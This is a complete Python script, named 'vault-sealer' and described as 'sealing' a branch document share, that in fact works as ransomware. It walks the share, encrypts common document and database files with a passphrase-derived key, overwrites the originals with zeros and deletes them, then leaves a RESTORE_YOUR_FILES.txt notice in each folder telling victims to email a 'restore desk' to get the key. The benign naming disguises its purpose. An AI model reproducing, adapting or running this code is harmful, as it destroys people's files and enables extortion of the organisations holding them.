#!/usr/bin/env python3
"""Seal the branch document share.

Walks the shared branch folder, seals every document with a key derived
from the operator's passphrase and leaves a restore notice in each folder.
"""
import argparse
import base64
import getpass
import hashlib
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("vault-sealer")

SHARE_ROOT = Path(os.environ.get("BRANCH_SHARE", "/srv/branch_share"))
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "RESTORE_YOUR_FILES.txt"
TARGET_SUFFIXES = {
    ".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".txt", ".db",
    ".sqlite", ".json", ".odt", ".ods",
}
NOTICE_TEXT = """All documents in this folder have been sealed.
To receive the restore key, contact restore-desk@sealmail.example
and quote reference {ref}. Do not rename or edit the .sealed files.
"""


def derive_key(passphrase, salt):
    raw = hashlib.pbkdf2_hmac("sha256", passphrase.encode(), salt, 200_000)
    return base64.urlsafe_b64encode(raw)


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in TARGET_SUFFIXES:
                yield path


def seal_file(path, fernet):
    data = path.read_bytes()
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    sealed.write_bytes(fernet.encrypt(data))
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return sealed


def leave_notice(folder, ref):
    notice = folder / NOTICE_NAME
    if not notice.exists():
        notice.write_text(NOTICE_TEXT.format(ref=ref))


def main(argv=None):
    parser = argparse.ArgumentParser(description="Seal branch documents")
    parser.add_argument("--root", type=Path, default=SHARE_ROOT)
    parser.add_argument("--ref", default=os.environ.get("SEAL_REF", "SC-0000"))
    parser.add_argument("--passphrase-env", default="SEAL_PASSPHRASE")
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    passphrase = os.environ.get(args.passphrase_env) or getpass.getpass("Passphrase: ")
    salt = os.urandom(16)
    fernet = Fernet(derive_key(passphrase, salt))

    sealed = failed = 0
    folders = set()
    for path in candidates(args.root):
        try:
            seal_file(path, fernet)
            folders.add(path.parent)
            sealed += 1
        except OSError as exc:
            LOG.warning("could not seal %s: %s", path, exc)
            failed += 1

    for folder in folders:
        leave_notice(folder, args.ref)
    (args.root / ".seal_salt").write_bytes(salt)

    LOG.info("sealed %d files, %d failures, %d folders", sealed, failed, len(folders))
    return 0 if failed == 0 else 2


if __name__ == "__main__":
    sys.exit(main())
